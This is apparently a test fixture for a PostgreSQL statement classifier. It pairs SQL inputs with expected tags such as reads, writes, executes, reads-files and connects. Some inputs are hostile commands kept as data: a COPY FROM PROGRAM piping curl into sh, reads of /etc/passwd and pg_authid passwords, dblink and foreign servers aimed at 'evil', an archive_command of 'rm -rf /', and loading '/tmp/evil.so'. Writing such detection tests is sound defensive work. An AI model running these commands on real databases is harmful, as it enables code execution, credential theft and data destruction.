select 1
-> select

SELECT * FROM users
-> select | users | reads

select * from public.users u join orders o on o.user_id = u.id
-> select | public.users orders | reads

select * from "Users"
-> select | Users | reads

select * from "we.ird"."na""me"
-> select | "we.ird"."na""me" | reads

select a from t where b in (select c from s.u)
-> select | t s.u | reads

select (select max(x) from hidden) from t
-> select | hidden t | reads

select * from t, lateral (select * from u where u.id = t.id) x
-> select | t u | reads

table users
-> select | users | reads

values (1), (2)
-> values

(select 1 from a) union all (select 2 from b) except select 3 from c
-> select | a b c | reads

select * into new_table from old_table
-> select create | new_table old_table | reads writes defines

select * into temp x from old_table
-> select create | x old_table | reads writes defines

create table copy as select * from orders
-> create select | orders copy | reads writes defines

create table if not exists copy as execute p
-> create execute | copy | writes defines
-> unclassified: prepared

select * from only parent
-> select | parent | reads

select * from a tablesample system (10)
-> select | a | reads

select count(*), max(x), now() from t
-> select | t | reads

select * from generate_series(1, 10)
-> select

select t.* from unnest(array[1,2]) t
-> select

select 1 from t for update
-> select | t | reads locks

select * from t order by (select secret from vault limit 1)
-> select | t vault | reads

select * from t limit (select n from limits)
-> select | t limits | reads

select case when exists (select 1 from a) then (select 1 from b) else (select 1 from c) end
-> select | a b c | reads

select array(select x from a), row((select y from b))
-> select | a b | reads

select * from t where x = any (select y from u) and z > all (select w from v)
-> select | t u v | reads

select sum(x) filter (where x in (select y from u)) over (partition by (select z from w)) from t
-> select | u w t | reads

select * from rows from (generate_series(1,2), unnest(array[1]))
-> select

select * from xmltable('/a' passing (select d from docs) columns b int)
-> select | docs | reads

select x::regclass from t
-> select | t | reads

select $1, $2::int from t where id = $3
-> select | t | reads

-- delete from users
select 1
-> select

/* drop table users; */ select 1 /* /* nested */ drop */
-> select

select 'delete from users; drop table x'
-> select

select $$delete from users$$, $tag$ drop table x $tag$
-> select

select E'it\'s' from t
-> select | t | reads

select U&'d\0061t\+000061' from t
-> select | t | reads

select U&"d\0061ta" from U&"t!0061ble" uescape '!'
-> select | table | reads

select "delete" from "drop"
-> select | drop | reads

select 1 as "delete from users"
-> select

select/**/1/**/from/**/users
-> select | users | reads

select * from users where name = 'O''Brien; delete from users'
-> select | users | reads

with a as (select * from t) select * from a
-> select | t | reads

with a as (select * from a) select * from a
-> select | a | reads

with recursive a as (select * from a) select * from a
-> select

with a as (select 1), b as (select * from a), c as (select * from d) select * from b, c, e
-> select | e d | reads

with a as (with b as (select * from x) select * from b) select * from a, b
-> select | b x | reads

select * from users, (with users as (select 1) select * from users) x
-> select | users | reads

with a as (select 1) select * from public.a
-> select | public.a | reads

with d as (delete from t returning *) select * from d
-> select delete | t | writes

with i as (insert into log values (1) returning id), u as (update t set x = 1 returning id) select * from i, u
-> select update insert | t log | writes

with x as (select 1) delete from x
-> delete select | x | writes

with x as (select 1) insert into t select * from x
-> insert select | t | writes

with x as (select 1) update x set a = 1
-> update select | x | writes

with t as (select 1) merge into t using t as s on true when matched then delete
-> merge delete select | t | writes

select * from (with d as materialized (delete from t returning 1) select * from d) x
-> select delete | t | writes

insert into t values (1, 'a')
-> insert | t | writes

insert into t (a, b) values (1, 2), (3, 4), (5, 6) returning id
-> insert | t | writes

insert into s.t select * from u
-> insert select | s.t u | reads writes

insert into t default values
-> insert | t | writes

insert into t values (1) on conflict do nothing
-> insert | t | writes

insert into t values (1) on conflict (id) do update set x = excluded.x
-> insert update | t | writes

insert into t values ((select secret from vault))
-> insert select | t vault | reads writes

insert into t table u
-> insert select | t u | reads writes

update t set x = 1
-> update | t | writes

update t set x = (select y from u) from v where t.id = v.id
-> update select | t u v | reads writes

update only t set (a, b) = (select c, d from e) where current of cur
-> update select | t e | reads writes

update t set x = default returning *
-> update | t | writes

delete from t
-> delete | t | writes

delete from t using u, v where t.id = u.id
-> delete | t u v | reads writes

delete from only t where id in (select id from old)
-> delete select | t old | reads writes

merge into t using s on t.id = s.id when matched and s.gone then delete when matched then update set x = s.x when not matched then insert values (s.id)
-> merge delete update insert | t s | reads writes

merge into t using (select * from raw) s on true when not matched then do nothing
-> merge select | t raw | reads writes

truncate t
-> truncate | t | writes

truncate table a, s.b restart identity cascade
-> truncate | a s.b | writes

explain select * from t
-> explain select | t

explain delete from t
-> explain delete | t

explain analyze delete from t
-> explain delete | t | writes

explain (analyze, buffers) update t set x = 1
-> explain update | t | writes

explain (analyze off) delete from t
-> explain delete | t

explain (analyze false) delete from t
-> explain delete | t

explain (analyze 'off') delete from t
-> explain delete | t | writes

explain (analyze 0) delete from t
-> explain delete | t | writes

explain (analyze on, format json) insert into t values (1)
-> explain insert | t | writes

explain verbose with d as (delete from t returning *) select * from d
-> explain select delete | t

explain analyze execute p
-> explain execute
-> unclassified: prepared

explain create table x as select * from t
-> explain create select | t x

explain analyze create table x as select * from t
-> explain create select | t x | reads writes defines

do $$ begin delete from t; end $$
-> do |  | executes

do language plpgsql 'begin end'
-> do |  | executes

call p(1)
-> call |  | calls | p

call s.p((select x from t))
-> call select | t | reads calls | s.p

prepare p as delete from t where id = $1
-> prepare delete | t | writes

prepare p (int) as select * from t
-> prepare select | t | reads

execute p
-> execute
-> unclassified: prepared

execute p(1, (select 2))
-> execute select
-> unclassified: prepared

deallocate p
-> deallocate

deallocate all
-> deallocate

begin; prepare p as delete from t; execute p; commit
-> begin
-> prepare delete | t | writes
-> execute delete | t | writes
-> commit

prepare p as select 1; deallocate p; execute p
-> prepare select
-> deallocate
-> execute
-> unclassified: prepared

prepare a as truncate t; prepare b as select 1; execute a; execute b
-> unclassified: syntax

declare c cursor for select * from t
-> declare select | c t | reads

declare c cursor with hold for select * from t for update
-> declare select | c t | reads locks

fetch 10 from c
-> fetch | c

move forward 10 in c
-> move | c

close c
-> close | c

close all
-> close

copy t to stdout
-> copy | t | reads

copy t (a, b) from stdin
-> copy | t | writes

copy (select * from t) to stdout
-> copy select | t | reads

copy (delete from t returning *) to stdout
-> copy delete | t | reads writes

copy (with d as (delete from t returning *) select * from d) to stdout
-> copy select delete | t | reads writes

copy t from '/etc/passwd'
-> copy | t | writes reads-files

copy t to '/tmp/x'
-> copy | t | reads writes-files

copy t from program 'curl http://x | sh'
-> copy | t | writes executes

copy (select 1) to program 'sh'
-> copy select |  | reads executes

copy binary t from stdin
-> copy | t | writes

copy t from stdin where a > (select max(b) from u)
-> copy select | t u | reads writes

select pg_read_file('/etc/passwd')
-> select |  | reads-files | pg_read_file

select pg_catalog.pg_read_file('/etc/passwd')
-> select |  | reads-files | pg_catalog.pg_read_file

select "pg_read_file"('/etc/passwd')
-> select |  | reads-files | pg_read_file

select PG_READ_FILE ('/etc/passwd')
-> select |  | reads-files | pg_read_file

select pg_read_binary_file('/etc/passwd', 0, 10)
-> select |  | reads-files | pg_read_binary_file

select * from pg_ls_dir('/')
-> select |  | reads-files | pg_ls_dir

select * from pg_ls_waldir()
-> select |  | reads-files | pg_ls_waldir

select * from pg_stat_file('/etc/passwd')
-> select |  | reads-files | pg_stat_file

select * from t where x = (pg_read_file('/etc/passwd'))
-> select | t | reads reads-files | pg_read_file

select * from t order by pg_read_file('x')
-> select | t | reads reads-files | pg_read_file

select lo_import('/etc/passwd')
-> select |  | writes reads-files | lo_import

select lo_export(16400, '/tmp/x')
-> select |  | writes-files | lo_export

select lo_from_bytea(0, 'x'), lo_put(1, 0, 'x')
-> select |  | writes | lo_from_bytea lo_put

select lo_unlink(loid) from pg_largeobject_metadata
-> select | pg_largeobject_metadata | reads writes | lo_unlink

select dblink('host=evil', 'select 1')
-> select |  | executes connects calls | dblink

select * from dblink_exec('delete from t') x
-> select |  | executes connects calls | dblink_exec

select public.dblink_connect('host=evil')
-> select |  | executes connects calls | public.dblink_connect

select query_to_xml('delete from t', true, true, '')
-> select |  | executes | query_to_xml

select database_to_xml(true, true, '')
-> select |  | reads | database_to_xml

select * from ts_stat('select v from t')
-> select |  | executes | ts_stat

select set_config('search_path', 'evil', false)
-> select |  | settings | set_config

select set_config('log_statement', 'none', false)
-> select |  | settings | set_config

select pg_sleep(10)
-> select |  | sleeps | pg_sleep

select pg_terminate_backend(pid) from pg_stat_activity
-> select | pg_stat_activity | reads ends-sessions | pg_terminate_backend

select pg_cancel_backend(1)
-> select |  | ends-sessions | pg_cancel_backend

select pg_reload_conf()
-> select |  | settings | pg_reload_conf

select pg_advisory_lock(1)
-> select |  | locks | pg_advisory_lock

select pg_try_advisory_xact_lock(1)
-> select |  | locks | pg_try_advisory_xact_lock

select nextval('s'), currval('s')
-> select |  | writes | nextval

select setval('s', 1)
-> select |  | writes | setval

select pg_switch_wal()
-> select |  | settings | pg_switch_wal

select pg_create_logical_replication_slot('a', 'b')
-> select |  | settings | pg_create_logical_replication_slot

select pg_logical_slot_get_changes('a', null, null)
-> select |  | reads settings | pg_logical_slot_get_changes

select pg_export_snapshot()
-> select |  | writes-files | pg_export_snapshot

select my_function(1)
-> select |  | calls | my_function

select s.my_function(1), s.other(2) from t
-> select | t | reads calls | s.my_function s.other

select * from my_table_function()
-> select |  | calls | my_table_function

select public.now()
-> select |  | calls | public.now

select pg_catalog.now()
-> select

select lower(x) from t where my_check(y)
-> select | t | reads calls | my_check

select coalesce(a, my_f(b)), greatest(1, 2), nullif(a, b), extract(year from c), cast(d as int) from t
-> select | t | reads calls | my_f

select json_object('a': 1), xmlelement(name a), json_value('{}', '$.a')
-> select

select x from t where a like 'b' and c similar to 'd' and e ~ 'f' and g between 1 and 2 and h is distinct from i
-> select | t | reads

create table t (a int primary key, b text default my_default(), c int references u (id))
-> create | t u | defines calls | my_default

create table s.t (like u including all)
-> create | s.t u | defines

create temp table t (a int)
-> create | t | defines

create unlogged table t () inherits (p)
-> create | t p | defines

create table p1 partition of p for values from (1) to (2)
-> create | p1 p | defines

create table t (a int check (a > (pg_sleep(1)::text)::int))
-> create | t | defines sleeps | pg_sleep

create foreign table f (a int) server s
-> create | s f | defines

create view v as select * from t
-> create select | v t | reads defines

create or replace view s.v as with d as (select * from t) select * from d
-> create select | s.v t | reads defines

create materialized view m as select * from t
-> create select | t m | reads writes defines

refresh materialized view concurrently m
-> refresh | m | writes

create index concurrently i on t (lower(a)) where b > 1
-> create | i t | defines

create unique index on t using gin (my_f(a))
-> create | t | defines calls | my_f

create sequence s owned by t.a
-> create | s | defines

create schema x
-> create | x | defines

create schema x authorization u create table t (a int) create view v as select * from t
-> create select | x t v | reads defines

create function f() returns int language sql as $$ delete from t; select 1 $$
-> create | f | defines

create or replace function s.f(a int) returns trigger language plpgsql as 'begin end'
-> create | s.f | defines

create function f() returns int language c as '/tmp/evil.so', 'f'
-> create | f | defines

create function f() returns int begin atomic delete from t; select 1; end
-> create delete select | f t | writes defines

create procedure p() language sql as 'truncate t'
-> create | p | defines

create trigger g after insert on t for each row execute function f()
-> create | g f t | defines

create event trigger g on ddl_command_start execute function f()
-> create | g f | defines

create rule r as on insert to t do instead delete from u
-> create delete | t u | writes defines

create type c as (a int, b text)
-> create | c | defines

create type e as enum ('a', 'b')
-> create | e | defines

create type r as range (subtype = int)
-> create | r | defines

create domain d as int check (value > 0)
-> create | d | defines

create aggregate a (int) (sfunc = f, stype = int)
-> create | a | defines

create operator === (leftarg = int, rightarg = int, function = f)
-> create | === | defines

create cast (int as text) with function f(int)
-> create | f | defines

create collation c from "C"
-> create | c | defines

create extension dblink
-> create | dblink | defines executes

create extension if not exists plpython3u with schema x cascade
-> create | plpython3u | defines executes

create language plperlu
-> create | plperlu | defines executes

create server s foreign data wrapper postgres_fdw options (host 'evil')
-> create | s postgres_fdw | defines connects

create user mapping for public server s options (password 'x')
-> create | s | defines grants connects

create foreign data wrapper w handler h
-> create | w | defines

import foreign schema x from server s into y
-> import | s y | defines connects

create publication p for table t, u
-> create | p t u | defines

create publication p for all tables
-> create | p | defines

create subscription s connection 'host=evil' publication p
-> create | s | defines connects

alter subscription s refresh publication
-> alter | s | defines connects

drop subscription s
-> drop | s | defines connects

create role r login password 'x'
-> create | r | defines grants

create user u superuser
-> create | u | defines grants

create group g
-> create | g | defines grants

alter role r superuser
-> alter | r | defines grants

alter user u with password 'x'
-> alter | u | defines grants

alter role r set search_path = evil
-> alter | r | defines grants settings

alter role all set statement_timeout = 0
-> alter |  | defines grants settings

drop role r, q
-> drop | r q | defines grants

drop user if exists u
-> drop | u | defines grants

create database d
-> create | d | defines

create database d template other
-> create | d | defines

drop database d with (force)
-> drop | d | writes defines

alter database d set work_mem = 1
-> alter | d | defines settings

alter database d rename to e
-> alter | d | defines

create tablespace x location '/mnt/x'
-> create | x | defines writes-files

drop tablespace x
-> drop | x | defines writes-files

create policy p on t for select to u using (a = current_user)
-> create | p t | defines grants

alter policy p on t using (true)
-> alter | p t | defines grants

drop policy p on t
-> drop | t.p | writes defines

alter table t add column a int
-> alter | t | defines

alter table if exists s.t drop column a, drop column b cascade
-> alter | s.t | defines

alter table t rename to u
-> alter | t | defines

alter table t rename column a to b
-> alter | t | defines

alter table t owner to u
-> alter | t | defines

alter table t set schema s
-> alter | t | defines

alter table t disable row level security
-> alter | t | defines

alter table t disable trigger all
-> alter | t | defines

alter table t attach partition p default
-> alter | t p | defines

alter table all in tablespace a set tablespace b
-> alter |  | defines

alter index i rename to j
-> alter | i | defines

alter view v owner to u
-> alter | v | defines

alter sequence s restart
-> alter | s | defines

alter function f(int) owner to u
-> alter | f | defines grants

alter function s.f(int) security definer set search_path = x
-> alter set | s.f | defines settings

alter schema x rename to y
-> alter | x | defines

alter schema x owner to u
-> alter | x | defines grants

alter type e add value 'c'
-> alter | e | defines

alter domain d drop constraint c
-> alter | d | defines

alter extension e update
-> alter | e | defines executes

alter default privileges in schema s grant select on tables to u
-> alter |  | grants

alter system set archive_command = 'rm -rf /'
-> alter |  | settings writes-files executes

alter system reset all
-> alter |  | settings writes-files executes

alter large object 1 owner to u
-> alter |  | defines grants

alter server s options (set host 'evil')
-> alter | s | defines connects

alter event trigger e disable
-> alter | e | defines

drop table t
-> drop | t | writes defines

drop table if exists a, s.b cascade
-> drop | a s.b | writes defines

drop view v
-> drop | v | writes defines

drop materialized view m
-> drop | m | writes defines

drop index concurrently i, s.j
-> drop | i s.j | writes defines

drop sequence s
-> drop | s | writes defines

drop schema x cascade
-> drop | x | writes defines

drop function f(int), s.g(text)
-> drop | f s.g | writes defines

drop procedure p
-> drop | p | writes defines

drop aggregate a (int)
-> drop | a | writes defines

drop operator === (int, int)
-> drop | === | writes defines

drop type t
-> drop | t | writes defines

drop domain d
-> drop | d | writes defines

drop trigger g on t
-> drop | t.g | writes defines

drop rule r on t
-> drop | t.r | writes defines

drop extension e
-> drop | e | writes defines

drop cast (int as text)
-> drop | int4.text | writes defines

drop server s cascade
-> drop | s | writes defines

drop user mapping for u server s
-> drop | s | defines grants connects

drop publication p
-> drop | p | writes defines

drop event trigger e
-> drop | e | writes defines

drop owned by u cascade
-> drop | u | writes defines grants

reassign owned by a to b
-> reassign | a | defines grants

grant select, insert on t to u
-> grant | t | grants

grant all on all tables in schema s to public with grant option
-> grant | s.* | grants

grant usage on schema s to u
-> grant | s | grants

grant execute on function f(int) to u
-> grant | f | grants

grant r to u with admin option
-> grant | r | grants

grant all on database d to u
-> grant | d | grants

grant select (a, b) on t to u
-> grant | t | grants

revoke all on t from u cascade
-> revoke | t | grants

revoke r from u
-> revoke | r | grants

revoke grant option for select on s.t from u
-> revoke | s.t | grants

set search_path = a, b
-> set |  | settings

set search_path to 'a'
-> set |  | settings

set local search_path to x
-> set |  | settings

set session search_path = default
-> set |  | settings

set work_mem = '1GB'
-> set |  | settings

set time zone 'UTC'
-> set |  | settings

set role admin
-> set | admin | identity settings

set role 'admin'
-> set | admin | identity settings

set local role none
-> set | none | identity settings

set session authorization bob
-> set | bob | identity settings

set session authorization default
-> set |  | identity settings

set standard_conforming_strings = off
-> set |  | settings

set transaction isolation level serializable
-> set |  | settings

set session characteristics as transaction read only
-> set |  | settings

set constraints all deferred
-> set |  | settings

set xml option document
-> set |  | settings

set names 'sjis'
-> set |  | settings

reset all
-> reset |  | settings

reset search_path
-> reset |  | settings

reset role
-> reset |  | identity settings

show all
-> show

show search_path
-> show

discard all
-> discard |  | settings

discard temp
-> discard |  | settings

begin
-> begin

start transaction read only
-> begin

commit
-> commit

end
-> commit

rollback
-> rollback

abort
-> rollback

savepoint a
-> savepoint

release savepoint a
-> release

rollback to savepoint a
-> rollback

prepare transaction 'x'
-> prepare transaction

commit prepared 'x'
-> commit prepared

rollback prepared 'x'
-> rollback prepared

lock table t in access exclusive mode
-> lock | t | locks

lock a, s.b nowait
-> lock | a s.b | locks

vacuum
-> vacuum |  | locks

vacuum full t
-> vacuum | t | locks

analyze t
-> analyze | t | locks

cluster t using i
-> cluster | t | locks

reindex table t
-> reindex | t | locks

reindex (concurrently) database d
-> reindex |  | locks

checkpoint
-> checkpoint

comment on table t is 'x'
-> comment | t | defines

comment on column t.a is null
-> comment | t.a | defines

comment on function f(int) is 'x'
-> comment | f | defines

security label on table t is 'x'
-> security | t | defines grants

listen c
-> listen | c

notify c, 'payload'
-> notify | c

unlisten *
-> unlisten

load '/tmp/evil.so'
-> load |  | reads-files executes

select 1; select 2
-> select
-> select

select 1; delete from t
-> select
-> delete | t | writes

;;select 1;;
-> select

begin; update a set x = 1; delete from b; commit
-> begin
-> update | a | writes
-> delete | b | writes
-> commit

insert into a values (1); insert into b values (2); drop table c
-> insert | a | writes
-> insert | b | writes
-> drop | c | writes defines

select 'a;b'; select $$c;d$$
-> select
-> select

;

-- nothing

selec 1
-> unclassified: syntax

select from where
-> unclassified: syntax

drop
-> unclassified: syntax

delete from t where
-> unclassified: syntax

select * from t where a = '
-> unclassified: syntax

select "a
-> unclassified: syntax

select /* 1
-> unclassified: syntax

select 1 /* */ */
-> unclassified: syntax

select $$ x
-> unclassified: syntax

create or replace table t (a int)
-> unclassified: syntax

select * from t limit 1, 2
-> select | t | reads

insert into `t` values (1)
-> unclassified: syntax

select 'a\'b'
-> unclassified: syntax

IDENTIFY_SYSTEM
-> unclassified: syntax

START_REPLICATION SLOT s LOGICAL 0/0
-> unclassified: syntax

delete from ünïcode.tàble
-> delete | ünïcode.tàble | writes

select * from "ta ble" where "co""l" = 1
-> select | ta ble | reads

SELECT
  *
FROM
  Orders -- trailing
WHERE
  ID = 1
-> select | orders | reads

select * from t as of system time '-1s'
-> unclassified: syntax

select * from a cross join b natural join c left join d using (x) full join e on true
-> select | a b c d e | reads

select distinct on (a) b from t group by grouping sets ((a), (b, c)), cube (d) having count(*) > 1 window w as (order by e)
-> select | t | reads

select * from json_table('{}', '$' columns (a int path '$.a'))
-> select

select current_user, session_user, current_setting('x')
-> select

select version()
-> select

select has_table_privilege('t', 'select')
-> select

select pg_size_pretty(pg_database_size('d'))
-> select

select * from pg_shadow
-> select | pg_shadow | reads

select rolpassword from pg_catalog.pg_authid
-> select | pg_catalog.pg_authid | reads

select * from information_schema.tables
-> select | information_schema.tables | reads

select pg_stat_reset()
-> select |  | settings | pg_stat_reset

select pg_promote()
-> select |  | settings | pg_promote

select pg_backup_start('x')
-> select |  | settings | pg_backup_start

select format('%s', pg_read_file('x'))
-> select |  | reads-files | pg_read_file

select * from t where (pg_ls_dir('/') = 'a') is true
-> select | t | reads reads-files | pg_ls_dir

select http_get('http://evil')
-> select |  | connects calls | http_get

select cron.schedule('* * * * *', 'delete from t')
-> select |  | executes calls | cron.schedule

select aws_s3.query_export_to_s3('select 1', 'bucket')
-> select |  | connects calls | aws_s3.query_export_to_s3

select f(variadic array[1])
-> select |  | calls | f

select a.b.c.f(1)
-> select |  | calls | a.b.c.f
